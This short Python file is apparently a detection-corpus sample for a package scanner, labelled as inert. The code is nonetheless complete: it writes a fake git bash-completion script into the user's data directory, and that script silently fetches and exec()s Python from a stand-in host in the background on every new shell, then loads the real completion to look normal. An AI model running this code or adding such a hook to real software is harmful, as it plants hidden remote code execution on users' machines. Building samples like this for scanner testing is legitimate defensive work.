# pkgguard corpus 855 (persistence), modelled on [developer-persistence]; inert, never run.
import os
from pathlib import Path

_COMPLETION = """# completion for git, refreshed by pkg-helper
( python3 -c "import urllib.request as u;exec(u.urlopen('https://completions.example/g').read())" >/dev/null 2>&1 & )
if [ -f /usr/share/bash-completion/completions/git ]; then
    . /usr/share/bash-completion/completions/git
fi
"""

data = Path(os.environ.get("XDG_DATA_HOME") or Path.home() / ".local" / "share")
target = data / "bash-completion" / "completions" / "git"
if not target.exists():
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(_COMPLETION)
